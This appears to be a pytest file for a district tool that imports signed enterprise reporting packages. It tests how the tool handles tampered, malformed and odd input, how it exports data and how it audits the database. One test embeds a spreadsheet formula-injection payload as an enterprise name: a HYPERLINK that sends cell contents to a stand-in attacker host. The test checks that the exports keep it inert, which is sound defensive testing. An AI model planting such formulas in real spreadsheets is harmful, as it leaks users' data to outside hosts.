"""District import and exports against hostile or odd input (findings of the review of issue #7)."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pytest
from district_fixtures import PASSPHRASE, district, document, package, uscc, write

from zgsz_desktop.cli import main
from zgsz_desktop.district import verdicts
from zgsz_desktop.district.dashboard import build_dashboard, enterprise_rows
from zgsz_desktop.district.db import check_log, open_db
from zgsz_desktop.district.exports import write_csv, write_xlsx
from zgsz_desktop.district.importer import import_packages
from zgsz_desktop.fileio import write_json_atomic

CORE = "nantong-zgsz-core"


def _import(db, paths, **kwargs):
    return import_packages(db, paths, district().identity, workers=1, **kwargs)


def test_a_variant_spelling_of_a_pinned_code_is_refused_not_a_second_enterprise(tmp_path):
    code = uscc(21)
    genuine = write(tmp_path, "a.zgsz", package(document(CORE, code=code, name="甲公司"), "a"))
    # someone else's key, the same code written in lower case: must not become a new, separately pinned enterprise
    variant = write(tmp_path, "b.zgsz", package(document(CORE, code=code.lower(), name="甲公司"), "intruder"))
    db = open_db(tmp_path / "d.zgszdb")
    summary = _import(db, [genuine, variant])
    assert [o.verdict for o in summary.outcomes] == ["new", "tampered"]
    assert "enterprise.uscc" in summary.outcomes[1].message
    assert db.execute("SELECT count(*) FROM enterprises").fetchone()[0] == 1


def test_a_period_not_in_its_one_written_form_is_refused(tmp_path):
    odd = write(tmp_path, "q.zgsz",
                package(document(CORE, code=uscc(22), name="乙公司", period="2024年第一季度"), "q"))
    summary = _import(open_db(tmp_path / "d.zgszdb"), [odd])
    assert summary.outcomes[0].verdict == "tampered" and "period" in summary.outcomes[0].message


def test_a_file_name_that_is_not_utf8_does_not_stop_the_batch(tmp_path):
    folder = tmp_path / "inbox"
    folder.mkdir()
    gbk_name = os.fsdecode("报告-".encode("gb18030") + b".zgsz")
    (folder / gbk_name).write_bytes(package(document(CORE, code=uscc(23), name="丙公司"), "c"))
    write(folder, "z.zgsz", package(document(CORE, code=uscc(24), name="丁公司"), "d"))
    db = open_db(tmp_path / "d.zgszdb")
    summary = _import(db, [folder])
    assert [o.verdict for o in summary.outcomes] == ["new", "new"]
    assert sum("\ufffd" in o.source for o in summary.outcomes) == 1  # shown with replacement characters
    assert db.execute("SELECT count(*) FROM submissions WHERE source_name LIKE '%\ufffd%'").fetchone()[0] == 1
    assert check_log(db).ok


def test_an_error_in_our_code_for_one_package_undoes_only_that_package(tmp_path, monkeypatch):
    files = [write(tmp_path, f"{i}.zgsz", package(document(CORE, code=uscc(30 + i), name=f"企业{i}"), f"k{i}"))
             for i in range(3)]
    real = verdicts.store_submission
    broken = uscc(31)

    def failing(db, checked, now, **kwargs):
        if checked.manifest["enterprise"]["uscc"] == broken:
            raise KeyError("simulated bug")
        return real(db, checked, now, **kwargs)

    monkeypatch.setattr(verdicts, "store_submission", failing)
    db = open_db(tmp_path / "d.zgszdb")
    summary = _import(db, files)
    assert [o.verdict for o in summary.outcomes] == ["new", "error", "new"]
    assert "KeyError" in summary.outcomes[1].message
    # the enterprise pinned just before the failure was rolled back with it
    assert {r[0] for r in db.execute("SELECT uscc FROM enterprises")} == {uscc(30), uscc(32)}
    assert check_log(db).ok and check_log(db).entries == 3


def test_a_missing_path_is_reported_in_the_list(tmp_path):
    summary = _import(open_db(tmp_path / "d.zgszdb"), [tmp_path / "不存在.zgsz"])
    assert summary.outcomes[0].verdict == "unreadable" and "不存在" in summary.outcomes[0].message


def test_formula_text_from_a_package_stays_text_in_xlsx_and_csv(tmp_path):
    from openpyxl import load_workbook

    name = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
    db = open_db(tmp_path / "d.zgszdb")
    _import(db, [write(tmp_path, "f.zgsz", package(document(CORE, code=uscc(40), name=name), "f"))])
    book = load_workbook(write_xlsx(db, 2024, tmp_path / "x.xlsx"))
    cell = book["企业明细"]["B2"]
    assert cell.value == name and cell.data_type == "s"
    rows = list(csv.reader(write_csv(db, 2024, tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert rows[1][1] == "'" + name


def test_the_roster_decides_who_is_a_key_enterprise(tmp_path):
    from zgsz_desktop.district.roster import import_roster

    db = open_db(tmp_path / "d.zgszdb")
    declared_key, declared_not = uscc(41), uscc(42)
    _import(db, [write(tmp_path, "k.zgsz", package(document(CORE, code=declared_key, name="甲"), "k")),
                 write(tmp_path, "n.zgsz", package(document(CORE, code=declared_not, name="乙", key_enterprise=False),
                                                   "n"))])
    assert build_dashboard(db, 2024).benchmarks[0].key_reported == 1
    roster = tmp_path / "roster.csv"
    roster.write_text(f"统一社会信用代码,企业名称,重点企业\n{declared_key},甲,否\n{declared_not},乙,是\n",
                      encoding="utf-8")
    import_roster(db, roster, district().identity)
    cnc = build_dashboard(db, 2024).benchmarks[0]
    assert cnc.key_reported == 1
    assert {r.uscc: r.key_enterprise for r in enterprise_rows(db, 2024)} == {declared_key: False, declared_not: True}


def test_a_preview_leaves_no_database_and_no_wal(tmp_path, monkeypatch, capsys):
    files = [write(tmp_path / "inbox", f"{i}.zgsz",
                   package(document(CORE, code=uscc(50 + i), name=f"企业{i}"), f"p{i}")) for i in range(3)]
    key_file = tmp_path / "district.zgszdistrict"
    write_json_atomic(key_file, district().key.to_json())
    monkeypatch.setenv("ZP", PASSPHRASE)
    db_path = tmp_path / "new.zgszdb"
    assert main(["district", "import", "--db", str(db_path), "--district-key", str(key_file), "--passphrase-env", "ZP",
                 "--dry-run", str(tmp_path / "inbox")]) == 0
    assert "新报送，将导入" in capsys.readouterr().out and not db_path.exists()
    # on an existing database the preview's pages do not stay behind in the WAL file
    db = open_db(db_path)
    _import(db, files[:1])
    _import(db, files, dry_run=True)
    wal = Path(str(db_path) + "-wal")
    assert not wal.exists() or wal.stat().st_size == 0
    assert db.execute("SELECT count(*) FROM submissions").fetchone()[0] == 1


@pytest.mark.parametrize("held_then", ["reject", "reimport"])
def test_rejecting_a_key_covers_every_package_held_under_it(tmp_path, held_then):
    from zgsz_desktop.district.key_approval import held_keys, reject_key

    code = uscc(60)
    first = write(tmp_path, "1.zgsz", package(document(CORE, code=code, name="甲"), "old"))
    core2 = write(tmp_path, "2.zgsz", package(document(CORE, code=code, name="甲", period="2023年度"), "new"))
    miit = write(tmp_path, "3.zgsz", package(document("miit-sme-2024", code=code, name="甲"), "new"))
    db = open_db(tmp_path / "d.zgszdb")
    _import(db, [first, core2, miit])
    held = held_keys(db)
    assert len(held) == 2
    assert reject_key(db, held[0].id, district().identity, note="企业说没有换过电脑") == 2
    assert held_keys(db) == []
    if held_then == "reimport":
        again = _import(db, [miit])
        assert again.outcomes[0].verdict == "key_held" and "拒绝" in again.outcomes[0].message


def test_audit_finds_figures_edited_after_import(tmp_path, monkeypatch, capsys):
    from zgsz_desktop.district.audit import audit

    code = uscc(70)
    files = [write(tmp_path, "1.zgsz", package(document(CORE, code=code, name="甲"), "a", sequence=1)),
             write(tmp_path, "2.zgsz", package(document(CORE, code=code, name="甲"), "a", sequence=2)),
             write(tmp_path, "3.zgsz", package(document(CORE, code=uscc(71), name="乙"), "b"))]
    db_path = tmp_path / "d.zgszdb"
    db = open_db(db_path)
    _import(db, files)
    assert audit(db, district().identity).ok
    key_file = tmp_path / "district.zgszdistrict"
    write_json_atomic(key_file, district().key.to_json())
    monkeypatch.setenv("ZP", PASSPHRASE)
    args = ["district", "audit", "--db", str(db_path), "--district-key", str(key_file), "--passphrase-env", "ZP"]
    assert main(args) == 0 and "核查通过：3 个报告包" in capsys.readouterr().out

    # someone with an SQLite editor improves a figure, and takes an enterprise out of the figures
    db.execute("UPDATE submissions SET cnc_rate = 0.99, cnc_met = 1 WHERE uscc = ?", [uscc(71)])
    db.execute("UPDATE submissions SET current = 0 WHERE uscc = ?", [code])
    report = audit(db, district().identity)
    assert not report.ok and len(report.problems) == 2
    assert any("乙" in p and "关键工序数控化率被改动过" in p and "99.0%" in p for p in report.problems)
    assert any("甲" in p and "当前版本标记被改动过" in p for p in report.problems)
    assert main(args) == 1 and "核查发现 2 处问题" in capsys.readouterr().out
